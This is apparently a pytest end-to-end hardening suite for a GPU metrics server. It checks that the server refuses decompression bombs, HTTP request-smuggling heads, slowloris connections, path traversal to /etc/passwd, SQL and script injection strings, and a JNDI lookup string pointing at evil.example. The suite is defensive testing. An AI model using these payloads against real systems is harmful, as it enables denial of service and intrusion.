"""A server among strangers: bombs, lies, floods and tricks get a 4xx or 503, memory stays bounded, others are served.

Every case is sent to a real process. After each: no 500, no traceback, ready, and a healthy client's samples are taken.
"""

from __future__ import annotations

import gzip
import json
import math
import os
import re
import socket
import threading
from collections import Counter
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Self
from urllib.parse import quote

import pytest

from bench.remote_write import field
from gpuwatch.collectors.push.remote_write_wire import varint
from tests.e2e.process import PROTOBUF, Answer, Server, command, gpu_labels, idle_job, now_ms, packed, snappy
from tests.worlds.patience import FACTOR, PATIENCE_S

GROWTH_KIB_MAX = 300 * 1024
"""How far the peak of the server's memory may rise in one attack."""
SERIES = int(os.environ.get("GPUWATCH_TEST_SERIES", "20000"))
LABELS = 100_000
CONNECTIONS = 300
SLOW_S_MAX = 45.0 * FACTOR
"""A head may take 10 s and a body 30 s: by then both are cut."""
WRONG_TOKENS = 500
MIB = 1 << 20
GZIP = {"Content-Type": "application/x-ndjson", "Content-Encoding": "gzip"}
OTLP = {"Content-Type": "application/x-protobuf", "Content-Encoding": "gzip"}
JSON = {"Content-Type": "application/json"}
REFUSED = re.compile(rb"HTTP/1\.1 (\d{3}) ")

Attack = Callable[[Server], int | set[int]]


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    directory = tmp_path_factory.mktemp("hostile") / "data"
    with Server(directory, analyze_interval_s=1) as running:
        assert 204 == running.write(idle_job("GPU-a", "trainer-0", now_ms())).status
        yield running
        assert running.process.poll() is None, running.log
        assert 204 == running.write(healthy()).status


@pytest.fixture(scope="module", autouse=True)
def slow(server: Server) -> Iterator[list[socket.socket]]:
    """Connections that never finish what they began, open while all other cases run: heads first, then bodies."""
    body = b"POST /api/v1/write HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-protobuf\r\n"
    begun = [opened(server, b"GET / HTTP/1.1\r\nHost: loc") for _ in range(CONNECTIONS)]
    begun += [opened(server, body + b"Content-Length: 100\r\n\r\nx") for _ in range(CONNECTIONS)]
    yield begun
    for connection in begun:
        connection.close()


def opened(server: Server, sent: bytes) -> socket.socket:
    connection = socket.create_connection(("127.0.0.1", server.port), PATIENCE_S)
    connection.sendall(sent)
    return connection


@pytest.fixture(autouse=True)
def unharmed(server: Server, slow: list[socket.socket]) -> Iterator[None]:
    """Before and after each attack: memory, log, readiness, and a healthy client meanwhile."""
    for _ in range(2):
        server.ready()
    server.forget_peak()
    before = server.peak_kib()
    logged = len(server.log)
    yield
    assert server.ready()
    assert GROWTH_KIB_MAX > server.peak_kib() - before
    fresh = server.log[logged:]
    assert "traceback" not in fresh.lower(), fresh


def healthy() -> list[tuple[dict[str, str], list[tuple[float, int]]]]:
    return [(gpu_labels("GPU-healthy"), [(0.5, now_ms())])]


class Bystander(threading.Thread):
    """Asks /readyz and writes samples again and again while an attack runs."""

    def __init__(self, server: Server) -> None:
        super().__init__(daemon=True)
        self._server = server
        self._stopping = threading.Event()
        self.statuses: Counter[int] = Counter()

    def __enter__(self) -> Self:
        self.start()
        return self

    def run(self) -> None:
        while not self._stopping.wait(0.02):
            for content in (None, packed(healthy())):
                try:
                    self.statuses[self._ask(content)] += 1
                except OSError:
                    self.statuses[0] += 1

    def _ask(self, content: bytes | None) -> int:
        if content is None:
            return self._server.ask("GET", "/readyz").status
        return write(self._server, content)

    def __exit__(self, *_: object) -> None:
        self._stopping.set()
        self.join(PATIENCE_S)


def write(server: Server, content: bytes) -> int:
    return server.ask("POST", "/api/v1/write", content, PROTOBUF).status


def events(server: Server, content: bytes, headers: dict[str, str] = GZIP) -> int:
    return server.ask("POST", "/api/v1/events", content, headers).status


def zipped(pattern: bytes, times: int) -> bytes:
    return gzip.compress(pattern * times, 6)


def chunks(server: Server, piece: bytes, most: int, first: bytes = b"") -> set[int]:
    """Statuses for a chunked body that goes on with `piece` until the server closes, or `most` bytes are sent."""
    head = b"POST /api/v1/write HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-protobuf\r\n"
    head += b"Transfer-Encoding: chunked\r\n\r\n"
    return poured(server, head + first, piece, most)


def poured(server: Server, first: bytes, piece: bytes, most: int) -> set[int]:
    got, sent = b"", 0
    with socket.create_connection(("127.0.0.1", server.port), PATIENCE_S) as connection:
        try:
            connection.sendall(first)
            while sent < most:
                connection.sendall(piece)
                sent += len(piece)
        except OSError:
            pass
        try:
            while not REFUSED.search(got) and (piece := connection.recv(MIB)):
                got += piece
        except OSError:
            pass
    return {int(status) for status in REFUSED.findall(got)}


# Bodies that are more than they seem.

BOMBS: dict[str, tuple[Attack, set[int]]] = {
    "a snappy preamble of 4 GB": (lambda s: write(s, varint((1 << 32) - 1) + bytes(100)), {413}),
    "a snappy preamble beyond 32 bits": (lambda s: write(s, b"\xff" * 9 + b"\x01"), {400}),
    "100 MB of zeros as snappy": (lambda s: write(s, snappy(bytes(100_000_000))), {413}),
    "31 MB of zeros as snappy": (lambda s: write(s, snappy(bytes(31_000_000))), {400}),
    "snappy cut short": (lambda s: write(s, packed(healthy())[:-5]), {400}),
    "no snappy at all": (lambda s: write(s, b""), {400}),
    "a length beyond the message": (lambda s: write(s, snappy(b"\x0a" + varint(1 << 40) + b"x")), {400}),
    "400 MB of zeros as gzip": (lambda s: events(s, zipped(b"\0" * 1000, 400_000)), {413}),
    "gzip within gzip": (lambda s: events(s, gzip.compress(zipped(b"[" * 1000, 50_000))), {400}),
    "gzip of a thousand members that are empty": (lambda s: events(s, gzip.compress(b"") * 1000), {400}),
    "JSON nested 100,000 deep": (lambda s: events(s, b"[" * 100_000 + b"]" * 100_000, JSON), {400}),
    "JSON objects nested 100,000 deep": (lambda s: events(s, b'{"a":' * 100_000 + b"1" + b"}" * 100_000, JSON), {400}),
    "31 MB of open brackets": (lambda s: events(s, zipped(b"[" * 1000, 31_000)), {400}),
    "JSON that is not UTF-8": (lambda s: events(s, b'[{"id": "\xff\xfe\xfd"}]', JSON), {400}),
    "a body larger than its limit": (
        lambda s: poured(
            s,
            b"POST /api/v1/write HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-protobuf\r\n"
            b"Content-Length: 100000000\r\n\r\n",
            bytes(MIB),
            90 * MIB,
        ),
        {413},
    ),
    "a chunked body without end": (lambda s: chunks(s, b"100000\r\n" + bytes(MIB) + b"\r\n", 200 * MIB), {413}),
    "a chunked body of single bytes": (lambda s: chunks(s, b"1\r\na\r\n" * 1000, 3 * MIB), {413, 408, 400}),
}


@pytest.mark.parametrize(("attack", "statuses"), BOMBS.values(), ids=BOMBS)
def test_a_body_that_is_more_than_it_seems_is_refused(server: Server, attack: Attack, statuses: set[int]) -> None:
    found = attack(server)

    assert statuses >= (found if isinstance(found, set) else {found})


EMPTY_PARTS: dict[str, tuple[str, Callable[[], bytes], dict[str, str], set[int]]] = {
    "a series of fifteen million labels": (
        "write",
        lambda: snappy(field(1, b"\x0a\x00" * 14_700_000)),
        PROTOBUF,
        {204},
    ),
    "sixteen million series": ("write", lambda: snappy(b"\x0a\x00" * 16_000_000), PROTOBUF, {400}),
    "a series of sixteen million samples": (
        "write",
        lambda: snappy(field(1, b"\x12\x00" * 16_000_000)),
        PROTOBUF,
        {400},
    ),
    "eight million scopes": ("otlp/v1/metrics", lambda: zipped_request(b"\x12\x00" * 8_000_000), OTLP, {400}),
    "a JSON list of eight million numbers": (
        "events",
        lambda: zipped(b"[" + b"1.5," * 8_000_000 + b"1]", 1),
        GZIP,
        {400},
    ),
}
"""Two to four bytes each on the wire, and a few hundred once parsed."""


def zipped_request(resource: bytes) -> bytes:
    return gzip.compress(field(1, resource), 6)


@pytest.mark.parametrize(("route", "content", "headers", "statuses"), EMPTY_PARTS.values(), ids=EMPTY_PARTS)
def test_parts_are_counted_before_they_are_built(
    server: Server, route: str, content: Callable[[], bytes], headers: dict[str, str], statuses: set[int]
) -> None:
    assert statuses == {server.ask("POST", f"/api/v1/{route}", content(), headers).status}


def test_bodies_of_many_parts_that_come_at_once_are_decoded_one_after_the_other(server: Server) -> None:
    """Three of each kind. One that waits too long is asked to come back."""
    kinds = [(route, content(), headers) for route, content, headers, _ in EMPTY_PARTS.values()]

    def sent(kind: tuple[str, bytes, dict[str, str]]) -> int:
        route, body, headers = kind
        return server.ask("POST", f"/api/v1/{route}", body, headers).status

    with ThreadPoolExecutor(3 * len(kinds)) as pool:
        found = list(pool.map(sent, 3 * kinds))

    expected = [statuses for *_, statuses in EMPTY_PARTS.values()]
    later = {429, 503}
    assert [] == [n for n, status in enumerate(found) if status not in expected[n % len(kinds)] | later]
    assert set(found) - later, "not even one was decoded"


ITEMS: dict[str, Callable[[], bytes]] = {
    "ten million empty objects": lambda: zipped(b"{}\n", 10_000_000),
    "a list of fifteen million numbers": lambda: zipped(b"[" + b"1," * 15_000_000 + b"1]", 1),
    "fifteen million lines that are not JSON": lambda: zipped(b"{}\n" + b"x\n" * 15_000_000, 1),
}


@pytest.mark.parametrize("content", ITEMS.values(), ids=ITEMS)
def test_more_items_than_a_body_may_have_are_refused_before_they_are_read(
    server: Server, content: Callable[[], bytes]
) -> None:
    body = content()
    with Bystander(server) as other:
        status = server.ask("POST", "/api/v1/events", body, GZIP).status

    assert 400 == status
    assert {200, 204} == set(other.statuses)


def test_back_tests_without_end_leave_the_service_ready(server: Server) -> None:
    """Their token waits for its turn; probes and samples do not."""
    body = json.dumps({"window": "24h"}).encode()

    def tested(_: int) -> int:
        return server.ask("POST", "/api/v1/detectors/idle-hoarding/backtest", body, JSON).status

    with Bystander(server) as other, ThreadPoolExecutor(40) as pool:
        statuses = set(pool.map(tested, range(40)))

    assert {200} <= statuses <= {200, 429}
    assert {200, 204} == set(other.statuses)


def test_trailers_without_end_are_cut(server: Server) -> None:
    assert {200, 204}.isdisjoint(chunks(server, b"X: a\r\n" * 10_000, 40 * MIB, b"1\r\n\0\r\n0\r\n"))


def test_pipelined_requests_are_bounded(server: Server) -> None:
    flood = b"GET /healthz HTTP/1.1\r\nHost: localhost\r\n\r\n" * 20_000
    found = server.raw(flood)

    assert 20_000 > len(REFUSED.findall(found))


# Samples that cannot be.


def one(value: float = 0.5, at_ms: int | None = None, name: str = "DCGM_FI_PROF_SM_ACTIVE") -> bytes:
    return packed([(gpu_labels("GPU-odd", name), [(value, now_ms() if at_ms is None else at_ms)])])


def labelled(**more: str) -> bytes:
    return packed([(gpu_labels("GPU-odd", **more), [(0.5, now_ms())])])


ODD: dict[str, Callable[[], bytes]] = {
    "not a number": lambda: one(math.nan),
    "infinity": lambda: one(math.inf),
    "minus infinity": lambda: one(-math.inf),
    "1e308": lambda: one(1e308),
    "1e308 watts": lambda: one(1e308, name="DCGM_FI_DEV_POWER_USAGE"),
    "1970": lambda: one(at_ms=0),
    "before 1970": lambda: one(at_ms=-1),
    "2100": lambda: one(at_ms=4_102_444_800_000),
    "the last of 64 bits": lambda: one(at_ms=(1 << 63) - 1),
    "the first of 64 bits": lambda: one(at_ms=-(1 << 63)),
    "a label value of 1 MB": lambda: labelled(big="x" * 1_000_000),
    "thirty label values of 1 MB": lambda: labelled(**{f"big{n}": "x" * 1_000_000 for n in range(30)}),
    "100,000 labels": lambda: labelled(**{f"label_{n}": "x" for n in range(LABELS)}),
    "a label twice": lambda: snappy(field(1, 2 * (field(1, field(1, b"UUID") + field(2, b"GPU-x"))) + b"\x12\x00")),
    "a label that is not UTF-8": lambda: labelled(pod="PLACE").replace(b"PLACE", b"\xff\xfe\xfd\xfc\xfb"),
}


@pytest.mark.parametrize("content", ODD.values(), ids=ODD)
def test_a_sample_that_cannot_be_is_refused_alone(server: Server, content: Callable[[], bytes]) -> None:
    answer = server.ask("POST", "/api/v1/write", content(), PROTOBUF)

    assert 204 == answer.status
    assert "x-gpuwatch-rejected" in answer.headers or content is ODD["a label twice"]


def test_names_of_html_and_sql_are_data(server: Server) -> None:
    names = ["<script>alert(1)</script>", "'; drop table sample; --", "\x00\x1b[31m", "🦀" * 50]
    for name in names:
        assert 204 == server.write(idle_job(f"GPU-{name}", name, now_ms())).status

    assert 204 == server.write(healthy()).status
    assert "text/html" not in server.ask("GET", "/api/v1/jobs").headers["content-type"]


def test_series_without_end_are_taken_beside_others(server: Server) -> None:
    at_ms = now_ms()
    flood = packed([(gpu_labels("GPU-flood", exported_pod=f"pod-{n}"), [(0.5, at_ms)]) for n in range(SERIES)])
    with Bystander(server) as other:
        assert 204 == write(server, flood)

    assert {200, 204} == set(other.statuses)


# Requests that lie.

HEADS: dict[str, tuple[bytes, set[int]]] = {
    "a length and chunks": (b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /api/v1/me HTTP/1.1\r\n", {400}),
    "chunks and a length": (b"Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\nGET /api/v1/me HTTP/1.1\r\n", {400}),
    "two lengths": (b"Content-Length: 5\r\nContent-Length: 0\r\n\r\nabcdeGET /api/v1/me HTTP/1.1\r\n", {400}),
    "an unknown coding": (b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n", {400}),
    "chunks that are not last": (b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n", {400}),
    "a negative length": (b"Content-Length: -5\r\n\r\n", {400}),
    "a length with a sign": (b"Content-Length: +5\r\n\r\nabcde", {400}),
    "a length of 23 digits": (b"Content-Length: 99999999999999999999999\r\n\r\nabcde", {400, 413}),
    "a hexadecimal length": (b"Content-Length: 0x5\r\n\r\nabcde", {400}),
    "a chunk of 2^72 bytes": (b"Transfer-Encoding: chunked\r\n\r\nffffffffffffffffff\r\nab", {400}),
    "a space before the colon": (b"X-A : b\r\n\r\n", {400}),
    "a folded header": (b"X-A: b\r\n c\r\n\r\n", {400}),
    "a NUL in a header": (b"X-A: b\0c\r\n\r\n", {400}),
    "a header of 40 kB": (b"X-A: " + b"a" * 40_000 + b"\r\n\r\n", {431}),
    "headers of 20 MB": (b"X-A: b\r\n" * 2_500_000 + b"\r\n", {400, 431}),
    "one header of 20 MB": (b"X-A: " + b"a" * 20_000_000 + b"\r\n\r\n", {400, 431}),
}  # fmt: skip


@pytest.mark.parametrize(("rest", "statuses"), HEADS.values(), ids=HEADS)
def test_a_head_that_lies_or_floods_is_refused_and_nothing_is_smuggled(
    server: Server, rest: bytes, statuses: set[int]
) -> None:
    sent = b"POST /api/v1/write HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-protobuf\r\n" + rest
    found = REFUSED.findall(server.raw(sent, end=True))

    assert 1 >= len(found), "one request was answered as if it were two"
    assert statuses >= {int(status) for status in found}


REQUEST_LINES = {
    "a path that is not UTF-8": (b"GET /api/v1/\xff\xfe HTTP/1.1", {400}),
    "a query of 40 kB": (b"GET /api/v1/me?" + b"a" * 40_000 + b" HTTP/1.1", {414}),
    "a path of 20 MB": (b"GET /" + b"a" * 20_000_000 + b" HTTP/1.1", {400, 414}),
    "a method of 100 kB": (b"A" * 100_000 + b" / HTTP/1.1", {400}),
    "HTTP/2": (b"PRI * HTTP/2.0", {400}),
    "a proxy's CONNECT": (b"CONNECT evil.example:443 HTTP/1.1", {400, 404, 405}),
    "TRACE": (b"TRACE / HTTP/1.1", {405}),
    "PROPFIND": (b"PROPFIND /api/v1/me HTTP/1.1", {405}),
    "TLS": (bytes.fromhex("16030100") + b"P" * 200, {400}),
}


@pytest.mark.parametrize(("line", "statuses"), REQUEST_LINES.values(), ids=REQUEST_LINES)
def test_an_odd_request_line_is_refused(server: Server, line: bytes, statuses: set[int]) -> None:
    sent = line + b"\r\nHost: localhost\r\nConnection: close\r\n\r\n"
    found = {int(status) for status in REFUSED.findall(server.raw(sent, end=True))}

    assert statuses >= found


# Paths and parameters.

PATHS = {
    "/ui/assets/../../pyproject.toml": {404},
    "/ui/assets/%2e%2e%2f%2e%2e%2fpyproject.toml": {404},
    "/ui/assets/..%5c..%5cpyproject.toml": {404},
    "/ui/assets//etc/passwd": {404},
    "/docs/../../etc/passwd": {404},
    "/docs/%2e%2e/app.py": {404},
    "//evil.example/": {404},
    "/api/v1/findings/..%2f..%2fetc": {404},
    "/api/v1/findings/%00": {400},
    "/api/v1/findings/%ff%fe": {400},
    "/api/v1/jobs/../../etc/passwd": {404},
    "/api/v1/jobs/%00": {400, 404},
    "/api/v1/%ff%fe%00": {404},
}


@pytest.mark.parametrize(("path", "statuses"), PATHS.items(), ids=PATHS)
def test_no_path_leads_out(server: Server, path: str, statuses: set[int]) -> None:
    answer = server.ask("GET", path)

    assert statuses >= {answer.status}
    assert b"root:" not in answer.body and b"build-backend" not in answer.body


@pytest.mark.parametrize("path", ["os/path.py", "dash/../../../../etc/passwd", "dash/%2e%2e/%2e%2e/os.py"])
def test_no_component_file_leads_out(server: Server, path: str) -> None:
    assert 404 == server.ask("GET", f"/ui/_dash-component-suites/{path}").status


@pytest.mark.parametrize("content", [b"{}", b"[]", b"x", b'{"output": "..", "inputs": []}', b"[" * 100_000])
def test_a_callback_that_is_none_is_refused(server: Server, content: bytes) -> None:
    status = server.ask("POST", "/ui/_dash-update-component", content, JSON).status

    assert 400 <= status < 500


ROUTES = ("fleet", "ledger", "chargeback", "slices", "findings", "detectors", "jobs", "periods", "quality", "channels")
HOSTILE_TEXTS = {
    "SQL": "'; drop table sample; --",
    "SQL that is true": "x' or '1'='1",
    "HTML": "<script>alert(1)</script>",
    "control characters": "\x00\x1b[31m\r\nX-Injected: 1",
    "8,000 letters": "a" * 7_000,
    "a number": "99999999999999999999999999",
    "percent signs": "%s%n%x%%",
    "braces": "{0.__class__}${jndi:ldap://evil.example}",
    "half a surrogate pair": "\udcff",
}
PARAMETERS = (
    "window", "by", "team", "cluster", "pool", "step", "format", "limit", "cursor", "state", "detector", "severity",
    "q", "sort", "user",
)  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE_TEXTS.values(), ids=HOSTILE_TEXTS)
def test_no_parameter_is_more_than_data(server: Server, text: str) -> None:
    given = quote(text.encode("utf-8", "surrogateescape"))

    def asked(pair: tuple[str, str]) -> tuple[str, Answer]:
        route, name = pair
        return f"{route}?{name}", server.ask("GET", f"/api/v1/{route}?{name}={given}")

    with ThreadPoolExecutor(4) as pool:
        found = dict(pool.map(asked, [(route, name) for route in ROUTES for name in PARAMETERS]))

    assert {} == {name: answer.status for name, answer in found.items() if answer.status not in (200, 400, 414)}
    assert {"application/json"} == {answer.headers["content-type"].partition(";")[0] for answer in found.values()}
    assert {} == {name: answer for name, answer in found.items() if "x-injected" in answer.headers}
    assert {} == {name: a.body for name, a in found.items() if a.status != 200 and set(a.json) != {"error"}}


@pytest.mark.parametrize(
    "query",
    [
        pytest.param("limit=1000000000", id="a limit of a billion"),
        pytest.param("limit=0", id="a limit of none"),
        pytest.param("limit=-1", id="a limit below none"),
        pytest.param("limit=1e9", id="a limit that is no whole number"),
        pytest.param("cursor=AAAA", id="a cursor that is not ours"),
        pytest.param("cursor=" + "A" * 2001, id="a cursor without end"),
        pytest.param("cursor=W10", id="a cursor of an empty list"),
        pytest.param("cursor=WyIiLCAiIiwgMWU5OTk5LCBudWxsXQ", id="a cursor that points to infinity"),
        pytest.param("nonsense=1", id="a parameter that is not there"),
    ],
)
def test_bad_pages_are_named(server: Server, query: str) -> None:
    answer = server.ask("GET", f"/api/v1/findings?{query}")

    assert (400, "bad_request") == (answer.status, answer.json["error"]["code"])


@pytest.mark.parametrize("method", ["POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "FOO"])
def test_wrong_methods_are_answered_with_the_right_ones(server: Server, method: str) -> None:
    if method == "FOO":
        assert b" 400 " in server.raw(b"FOO /api/v1/fleet HTTP/1.1\r\nHost: localhost\r\n\r\n")
        return
    answer = server.ask(method, "/api/v1/fleet")

    assert (405, "GET, HEAD") == (answer.status, answer.headers["allow"])


# Who asks.

ELSEWHERE = {
    "a name that points here": {"Host": "evil.example"},
    "a name that begins like ours": {"Host": "127.0.0.1.evil.example"},
    "a user name like ours": {"Host": "localhost@evil.example"},
    "no name": {"Host": ""},
    "two words": {"Host": "127.0.0.1 evil.example"},
    "a page of another site": {"Origin": "https://evil.example"},
    "a page without a site": {"Origin": "null"},
    "a browser that says so": {"Sec-Fetch-Site": "cross-site"},
    "a proxy": {"X-Forwarded-For": "203.0.113.7"},
    "a proxy that says it is us": {"X-Forwarded-For": "127.0.0.1"},
    "a proxy by the standard": {"Forwarded": "for=127.0.0.1"},
    "a proxy by another name": {"X-Real-IP": "127.0.0.1"},
}


@pytest.mark.parametrize("headers", ELSEWHERE.values(), ids=ELSEWHERE)
def test_nothing_is_open_to_who_comes_from_elsewhere(server: Server, headers: dict[str, str]) -> None:
    found = {
        path: server.ask("GET", path, headers=headers).status
        for path in ("/api/v1/me", "/api/v1/findings", "/api/v1/channels", "/metrics")
    }
    found["write"] = server.ask("POST", "/api/v1/write", packed(healthy()), PROTOBUF | headers).status
    found["channels"] = server.ask("PUT", "/api/v1/channels", b'{"items": []}', JSON | headers).status

    assert {} == {path: status for path, status in found.items() if status not in (400, 401, 403)}
    document = json.loads(server.ask("GET", "/readyz", headers=headers).body or b"{}")
    assert "items" not in document.get("sources", {}), "names of sources are told to strangers"


def test_two_hosts_are_none(server: Server) -> None:
    sent = b"GET /api/v1/me HTTP/1.1\r\nHost: 127.0.0.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n"

    assert [b"400"] == REFUSED.findall(server.raw(sent))


def test_thousands_of_wrong_tokens_lock_nobody_out(tmp_path: Path) -> None:
    directory = tmp_path / "data"
    made = command("token create", "--scope", "admin", data=directory)
    right = {"Authorization": f"Bearer {made.out.strip()}"}
    with Server(directory) as server:

        def asked(number: int) -> int:
            return server.ask("GET", "/api/v1/me", headers={"Authorization": f"Bearer wrong-{number}"}).status

        with ThreadPoolExecutor(8) as pool:
            found = Counter(pool.map(asked, range(WRONG_TOKENS)))
        assert {401, 429} == set(found)
        assert found[401] < WRONG_TOKENS / 10
        assert 200 == server.ask("GET", "/api/v1/me", headers=right).status
        assert 401 == server.ask("GET", "/api/v1/me").status, "loopback is trusted although there is a token"
        assert made.out.strip() not in server.log


def test_slow_heads_and_bodies_were_cut(server: Server, slow: list[socket.socket]) -> None:
    answers = Counter(rest(connection)[9:12] for connection in slow[:CONNECTIONS])
    bodies = Counter(rest(connection)[9:12] for connection in slow[CONNECTIONS:])

    assert {b""} == set(answers), "a head that never came was answered"
    assert {b"408"} == set(bodies)


def rest(connection: socket.socket) -> bytes:
    """What came on a connection until the server closed it; fails when it does not."""
    connection.settimeout(SLOW_S_MAX)
    got = b""
    while piece := connection.recv(MIB):
        got += piece
    return got
